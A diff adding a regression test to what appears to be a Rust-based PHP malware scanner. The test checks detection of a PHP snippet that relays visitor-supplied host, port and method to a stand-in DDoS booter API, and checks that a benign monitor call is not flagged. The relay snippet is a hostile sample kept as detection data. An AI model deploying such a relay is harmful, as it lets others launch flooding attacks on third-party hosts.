@@ -1580,6 +1580,18 @@ fn a_script_copying_itself_into_every_php_file_is_found() {
 }
 
 #[test]
+fn a_target_passed_on_to_a_flooding_services_api_is_an_attack_relay() {
+    // Regression: fresh122's `api.php` relays a booter's order (host, port, time, method).
+    let relay = "<?php $d = json_decode(file_get_contents('php://input'), true); $host = $d['host']; $port = $d['port'];\n\
+                 $url = \"https://booter.example/api?key=k&host=$host&port=$port&time=$time&method=$method\";\n\
+                 $r = file_get_contents($url); echo json_encode(['message' => 'Attack Launched']);";
+    assert_eq!(found(relay), [Why::NetworkFromInput]);
+    // A status page asking a monitor about its own host sends no order of the visitor's.
+    let monitor = "<?php $r = file_get_contents('https://monitor.example/api?host=example.com&port=443&time=30&method=GET'); echo $r;";
+    assert!(found(monitor).is_empty(), "{:?}", found(monitor));
+}
+
+#[test]
 fn the_page_named_to_another_site_as_googlebot_is_a_link_sellers_client() {
     // Regression: fresh119's and fresh82's `Get_links` class in a theme's `functions.php`: the
     // page's address sent in a crawler's name, the links between the markers handed back.
